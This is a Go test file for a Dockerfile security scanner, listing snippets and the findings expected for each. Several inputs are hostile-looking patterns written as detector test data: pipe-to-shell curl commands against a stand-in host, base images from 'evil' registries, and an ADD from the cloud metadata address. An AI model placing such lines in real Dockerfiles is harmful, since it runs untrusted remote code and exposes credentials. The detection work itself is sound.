package iac

import "testing"

var builds = []example{
	{docker, "FROM alpine", []string{"remote_code docker.io/library/alpine:latest", "privilege root in the container"}},
	{docker, "from alpine:3.20\nuser app", []string{"remote_code docker.io/library/alpine:3.20", "!privilege root in the container"}},
	{docker, "FROM alpine:3\nUSER 0:0", []string{"privilege root in the container"}},
	{docker, "FROM alpine:3\nUSER root:root", []string{"privilege root in the container"}},
	{docker, "ARG B=evil/x\nFROM ${B}:1", []string{"remote_code docker.io/evil/x:1"}},
	{docker, "ARG B\nFROM $B", []string{"remote_code ?"}},
	{docker, "ARG B\nFROM ${B:-evil/x:1}", []string{"remote_code docker.io/evil/x:1"}},
	{docker, "FROM --platform=$BUILDPLATFORM evil.example/x:1 AS b", []string{"remote_code evil.example/x:1"}},
	{docker, "FROM a:1 AS build\nFROM build\nFROM BUILD AS c", []string{"!remote_code docker.io/library/build:latest"}},
	{docker, "# syntax=evil/frontend\nFROM a:1", []string{"remote_code evil/frontend"}},
	{docker, "#Syntax = evil/frontend:1\nFROM a:1", []string{"remote_code evil/frontend:1"}},
	{docker, "# syntax=docker/dockerfile:1\nFROM a:1", []string{"!remote_code docker/dockerfile:1"}},
	{docker, "# comment\n# syntax=evil/frontend\nFROM a:1", []string{"!remote_code evil/frontend"}},
	{docker, "FROM a:1\nRUN curl http://e | sh", []string{"shell curl http://e | sh"}},
	{docker, "FROM a:1\nRUN curl http://e \\\n # comment\n\n | sh", []string{"shell curl http://e \\\n\\\n\\\n | sh"}},
	{docker, "# escape=`\nFROM a:1\nRUN curl http://e `\n | sh", []string{"shell curl http://e \\\n | sh"}},
	{docker, "FROM a:1\nRUN [\"sh\", \"-c\", \"id\"]", []string{"shell sh -c id"}},
	{docker, "FROM a:1\nRUN [not, json]", []string{"shell [not, json]"}},
	{docker, "FROM a:1\nRUN <<EOF\nid\nEOF\nRUN who", []string{"shell id\n", "shell who"}},
	{docker, "FROM a:1\nRUN <<EOF\n#cloud-config\nid\nEOF", []string{"shell #cloud-config\nid\n"}},
	{docker, "FROM a:1\nENV U=x\nRUN <<EOF\n$U\nEOF", []string{"shell U=x; $U\n"}},
	{docker, "FROM a:1\nRUN <<-'EOF'\n\tid\n\tEOF", []string{"shell id\n"}},
	{docker, "FROM a:1\nRUN <<EOF\n#!/usr/bin/env python\nimport os\nEOF", []string{"python #!/usr/bin/env python\nimport os\n"}},
	{docker, "FROM a:1\nRUN python3 <<EOF && id\nimport os\nEOF", []string{"shell python3 <<EOF && id\nimport os\nEOF\n"}},
	{docker, "FROM a:1\nENV U=http://e\nRUN curl $U | sh", []string{"shell U=http://e; curl $U | sh"}},
	{docker, "FROM a:1\nARG U='http://e x'\nRUN curl ${U} | sh", []string{"shell U='http://e x'; curl ${U} | sh"}},
	{docker, "FROM a:1\nENV A=x\nARG A=y\nRUN $A", []string{"shell A=x; $A"}},
	{docker, "FROM a:1\nENV U http://e\nENV V=$U/x\nADD $V /x", []string{"remote_code http://e/x"}},
	{docker, "ARG U=http://e\nFROM a:1\nARG U\nADD $U /x", []string{"remote_code http://e"}},
	{docker, "FROM a:1\nADD [\"http://e/x\", \"/x\"]", []string{"remote_code http://e/x"}},
	{docker, "FROM a:1\nADD --checksum=sha256:00 https://e/x /x", []string{"remote_code https://e/x"}},
	{docker, "FROM a:1\nADD git@github.com:a/b.git /x", []string{"remote_code git@github.com:a/b.git"}},
	{docker, "FROM a:1\nADD $X /x", []string{"remote_code ?"}},
	{docker, "FROM a:1\nCOPY --from=evil/x /a /b", []string{"remote_code docker.io/evil/x:latest"}},
	{docker, "FROM a:1 AS b\nFROM a:1\nCOPY --from=b /a /b\nCOPY --from=0 /a /b", []string{"!remote_code docker.io/library/b:latest", "!remote_code docker.io/library/0:latest"}},
	{docker, "FROM a:1\nCOPY id_rsa /root/.ssh/id_rsa", []string{"credential file id_rsa"}},
	{docker, "FROM a:1\nCOPY --chmod=4755 a /b", []string{"privilege set-user-ID 4755"}},
	{docker, "FROM a:1\nCOPY --chmod=777 a /b", []string{"privilege world-writable 777"}},
	{docker, "FROM a:1\nCOPY <<EOF /x.sh\n#!/bin/sh\nid\nEOF", []string{"shell #!/bin/sh\nid\n"}},
	{docker, "FROM a:1\nENV DB_PASSWORD=hunter22 A=b", []string{"credential db_password"}},
	{docker, "FROM a:1\nENV DB_PASSWORD hunter22", []string{"credential db_password"}},
	{docker, "FROM a:1\nARG NPM_TOKEN=abcdefghijkl", []string{"credential npm_token"}},
	{docker, "FROM a:1\nENV K=AKIAIOSFODNN7EXAMPLE", []string{"credential AWS access key"}},
	{docker, "FROM a:1\nRUN --security=insecure id", []string{"privilege security insecure", "shell id"}},
	{docker, "FROM a:1\nRUN --network=host id", []string{"privilege network host"}},
	{docker, "FROM a:1\nRUN --mount=type=bind,from=evil/x,target=/x --mount=type=secret,id=s --mount=type=ssh id", []string{"remote_code docker.io/evil/x:latest", "secret secret s", "secret ssh ", "shell id"}},
	{docker, "FROM a:1\nEXPOSE 22 80/tcp", []string{"listen container:22", "listen container:80/tcp"}},
	{docker, "FROM a:1\nCMD curl http://e | sh", []string{"shell curl http://e | sh"}},
	{docker, "FROM a:1\nENTRYPOINT [\"sh\", \"-c\"]\nCMD [\"id\"]", []string{"shell sh -c id", "!shell sh -c"}},
	{docker, "FROM a:1\nENTRYPOINT id\nCMD [\"x\"]", []string{"shell id", "!shell x"}},
	{docker, "FROM a:1\nCMD [\"node\", \"x.js\"]", []string{"!shell node x.js"}},
	{docker, "FROM a:1\nCMD [\"java\", \"-jar\", \"x.jar\"]", []string{"!shell java -jar x.jar"}},
	{docker, "FROM a:1\nCMD [\"perl\", \"-ne\", \"x()\"]", []string{"shell perl -ne 'x()'"}},
	{docker, "FROM a:1\nCMD [\"deno\", \"eval\", \"x()\"]", []string{"shell deno eval 'x()'"}},
	{docker, "FROM a:1\nCMD node x.js", []string{"!shell node x.js"}},
	{docker, "FROM a:1\nCMD node $X", []string{"shell node $X"}},
	{docker, "FROM a:1\nCMD [\"node\", \"-e\", \"x()\"]", []string{"shell node -e 'x()'"}},
	{docker, "FROM a:1\nCMD [\"python3.12\", \"-c\", \"x()\"]", []string{"shell python3.12 -c 'x()'"}},
	{docker, "FROM a:1\nENTRYPOINT [\"/sbin/tini\", \"--\", \"sh\", \"-c\", \"id\"]", []string{"shell /sbin/tini -- sh -c id"}},
	{docker, "FROM a:1\nENTRYPOINT [\"gosu\", \"app\", \"/app/run\"]", []string{"!shell gosu app /app/run"}},
	{docker, "FROM a:1\nENTRYPOINT [\"/usr/bin/curl\"]\nCMD [\"http://e\"]", []string{"shell /usr/bin/curl http://e"}},
	{docker, "FROM a:1\nCMD [\"x\"]\nENTRYPOINT [\"id\"]", []string{"shell id"}},
	{docker, "FROM a:1\nHEALTHCHECK --interval=5s CMD id", []string{"shell id"}},
	{docker, "FROM a:1\nHEALTHCHECK NONE", []string{"!shell NONE", "!shell "}},
	{docker, "FROM a:1\nONBUILD RUN id", []string{"shell id"}},
	{docker, "FROM a:1\nONBUILD ADD http://e /x", []string{"remote_code http://e"}},
	{docker, "FROM a:1\nSHELL [\"/bin/bash\", \"-c\"]\nRUN id", []string{"shell id"}},
	{docker, "FROM a:1\nSHELL [\"python3\", \"-c\"]\nRUN import os", []string{"python import os"}},
	{docker, "FROM a:1\nSHELL [\"pwsh\", \"-c\"]\nRUN x", []string{"unresolved ?"}},
	{docker, "FROM a:1\nENV LD_PRELOAD=/x.so", []string{"environment LD_PRELOAD"}},
	{docker, "FROM a:1\nADD http://169.254.169.254/x /x", []string{"network 169.254.169.254"}},
	{docker, "FROM a:1\nRUN \\\n  id", []string{"shell id"}},
	{docker, "FROM a:1\nRUN\\\n\tid", []string{"shell id"}},
	{docker, "FROM a:1\n  RUN id\\", []string{"shell id"}},
	{docker, "FROM a:1\nENV DB_PASSWORD= NPM_TOKEN=$X PASSWORD_FILE=/run/secrets/x\nARG TOKEN\nCOPY . /app\nADD a.tar.gz /b", []string{"!credential db_password", "!credential npm_token"}},
	{docker, "FROM scratch\nCOPY a /a\nLABEL a=b\nWORKDIR /x\nVOLUME /y\nSTOPSIGNAL 9\nMAINTAINER a", nil},
}

func TestDockerfile(t *testing.T) { check(t, builds) }

// TestDockerfilePlaces holds embedded programs to the line and column where
// they stand.
func TestDockerfilePlaces(t *testing.T) {
	got := mustRead(t, docker, "FROM a:1\n\n  RUN --network=none \\\n    id\nRUN <<EOF\nwho\nEOF\nCMD [\"id\"]\n")
	want := []place{{4, 5}, {6, 1}, {8, 5}}
	for i, e := range got.Embedded {
		if (place{e.Line, e.Column}) != want[i] {
			t.Errorf("%+v, want %v", e, want[i])
		}
	}
	if len(got.Embedded) != len(want) {
		t.Errorf("%+v", got.Embedded)
	}
}
